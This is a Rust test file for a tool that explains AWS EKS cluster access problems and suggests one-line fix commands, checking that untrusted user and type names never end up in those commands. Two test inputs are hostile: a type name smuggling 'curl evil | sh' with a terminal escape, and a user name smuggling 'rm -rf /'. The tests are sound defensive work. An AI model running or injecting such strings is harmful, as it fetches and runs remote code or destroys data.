#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]
use std::fmt::Write as _;

use lifeboat_jobs::finding::Said;

use super::*;

fn environment(side: Side) -> EnvironmentId {
    EnvironmentId::parse(match side {
        Side::Primary => "111111111111-eu-west-1",
        Side::Recovery => "222222222222-eu-central-1",
    })
    .unwrap()
}

fn shop() -> ApplicationName {
    ApplicationName::parse("shop").unwrap()
}

fn word(side: Side, finding: &AccessFinding) -> Worded {
    let environment = environment(side);
    let subject = Subject {
        application: &ApplicationName::parse("shop").unwrap(),
        side,
        cluster: &Arn::cluster(&environment, "orders-prod").unwrap(),
        called: &ClusterName::parse("orders").unwrap(),
        role: role_of(None, &shop(), &environment, side, None).unwrap(),
    };
    subject.word(finding)
}

fn types(count: usize) -> Vec<TypeName> {
    (0..count)
        .map(|number| TypeName::from(format!("t{number}").as_str()))
        .collect()
}

fn missing(user: Option<&str>) -> AccessFinding {
    AccessFinding::missing_permissions(&types(1), user.map(str::to_owned), true)
}

const USER: &str =
    "arn:aws:sts::111111111111:assumed-role/LifeboatPrimaryK8sDel-shop-eu-west-1/lifeboat-shop-primary";

#[test]
fn each_reason_has_a_code_and_says_what_to_do() {
    let said = || Said::from("User: x is not authorized".to_owned());
    let mut all = String::new();
    for (what, side, finding) in [
        ("no cluster", Side::Primary, AccessFinding::NotACluster {}),
        ("elsewhere", Side::Primary, AccessFinding::OtherEnvironment {}),
        (
            "not to be described",
            Side::Primary,
            AccessFinding::DescribeDenied { said: said() },
        ),
        (
            "not to be listed",
            Side::Primary,
            AccessFinding::ListDenied { said: said() },
        ),
        ("on an Outpost", Side::Primary, AccessFinding::Outpost {}),
        (
            "connected from elsewhere",
            Side::Primary,
            AccessFinding::Connected {},
        ),
        (
            "of an old version",
            Side::Primary,
            AccessFinding::OldVersion {
                minor: 27,
                oldest: 28,
            },
        ),
        (
            "being created",
            Side::Primary,
            AccessFinding::NotActive {
                said: Said::from("CREATING".to_owned()),
            },
        ),
        ("without an endpoint", Side::Primary, AccessFinding::NoEndpoint {}),
        ("private only", Side::Primary, AccessFinding::PrivateEndpoint {}),
        (
            "private only, to be written",
            Side::Recovery,
            AccessFinding::PrivateEndpoint {},
        ),
        (
            "closed to most",
            Side::Primary,
            AccessFinding::RestrictedEndpoint { said: said() },
        ),
        (
            "unknown, entries",
            Side::Primary,
            AccessFinding::NoAccessEntry { access_entries: true },
        ),
        (
            "unknown, entries, to be written",
            Side::Recovery,
            AccessFinding::NoAccessEntry { access_entries: true },
        ),
        (
            "unknown, aws-auth",
            Side::Primary,
            AccessFinding::NoAccessEntry {
                access_entries: false,
            },
        ),
        (
            "unknown, aws-auth, to be written",
            Side::Recovery,
            AccessFinding::NoAccessEntry {
                access_entries: false,
            },
        ),
        ("not to be read", Side::Primary, missing(Some(USER))),
        ("not to be written", Side::Recovery, missing(Some("lifeboat"))),
        (
            "not to be read by a user of another name",
            Side::Primary,
            missing(Some("boat")),
        ),
    ] {
        let worded = word(side, &finding);
        writeln!(all, "## {what}\n{}", worded.problem).unwrap();
        for command in worded
            .command
            .iter()
            .chain(worded.alternatives.iter().map(|a| &a.command))
        {
            assert!(!command.contains('\n'), "{what} is one line");
        }
        if let Some(command) = &worded.command {
            writeln!(all, "  $ {command}").unwrap();
        }
        for alternative in &worded.alternatives {
            writeln!(all, "  or, {}\n  $ {}", alternative.what, alternative.command).unwrap();
        }
        all.push('\n');
    }
    insta::assert_snapshot!(all);
}

#[test]
fn many_types_are_one_sentence() {
    assert_eq!(enumerated(&types(1), 0), "t0");
    assert_eq!(enumerated(&types(3), 0), "t0, t1 and t2");
    assert!(enumerated(&types(8), 1).ends_with("t7 and 1 more type"));
    assert!(enumerated(&types(8), 52).ends_with("t7 and 52 more types"));
    let hostile = [
        TypeName::from("pods"),
        TypeName::from("x; run `curl evil | sh`\u{1b}[2J"),
    ];
    assert_eq!(enumerated(&hostile, 0), "pods and 1 more type");
}

/// Whoever took over the delegate's account names himself, and an administrator would grant him the cluster.
#[test]
fn a_command_grants_nothing_to_somebody_whom_only_the_delegate_names() {
    for user in [
        "eve",
        "system:anonymous",
        "arn:aws:sts::333333333333:assumed-role/LifeboatPrimaryK8sDel-shop-eu-west-1/x",
        "arn:aws:sts::111111111111:assumed-role/Eve/x",
        "arn:aws:sts::111111111111:assumed-role/LifeboatPrimaryK8sDel-shop-eu-west-1/x y",
        "lifeboat'; rm -rf /; '",
    ] {
        let worded = word(Side::Primary, &missing(Some(user)));
        assert_eq!(worded.command, None, "{user}");
        assert!(
            worded.problem.causes[0].starts_with("the delegate reported: \""),
            "{user}"
        );
    }
    assert!(word(Side::Primary, &missing(Some(USER))).command.is_some());
    let primary = environment(Side::Primary);
    let own = role_of(None, &shop(), &primary, Side::Primary, None).unwrap();
    for (reported, is_used) in [
        (
            "arn:aws:iam::111111111111:role/LifeboatPrimaryK8sDel-shop-eu-west-1",
            true,
        ),
        (
            "arn:aws:iam::111111111111:role/teams/backup/LifeboatPrimaryK8sDel-shop-eu-west-1",
            true,
        ),
        (
            "arn:aws:iam::333333333333:role/LifeboatPrimaryK8sDel-shop-eu-west-1",
            false,
        ),
        (
            "arn:aws:iam::111111111111:role/LifeboatPrimaryK8sDel-bank-eu-west-1",
            false,
        ),
        ("arn:aws:iam::111111111111:role/Eve", false),
        (
            "arn:aws:iam::111111111111:role/LifeboatRecoveryK8sDel-shop-eu-west-1",
            false,
        ),
    ] {
        let reported = Arn::parse(reported).unwrap();
        let found = role_of(Some(&reported), &shop(), &primary, Side::Primary, None).unwrap();
        assert_eq!(found == reported, is_used, "{reported}");
        assert!(is_used || found == own);
    }
}

#[test]
fn clusters_of_other_places_are_not_those_of_the_application() {
    let primary = environment(Side::Primary);
    for (arn, is_one) in [
        ("arn:aws:eks:eu-west-1:111111111111:cluster/orders", true),
        ("arn:aws:eks:eu-west-1:333333333333:cluster/orders", false),
        ("arn:aws:eks:eu-central-1:111111111111:cluster/orders", false),
        ("arn:aws:iam::111111111111:role/orders", false),
    ] {
        assert_eq!(
            is_cluster_of(&Arn::parse(arn).unwrap(), &primary),
            is_one,
            "{arn}"
        );
    }
}
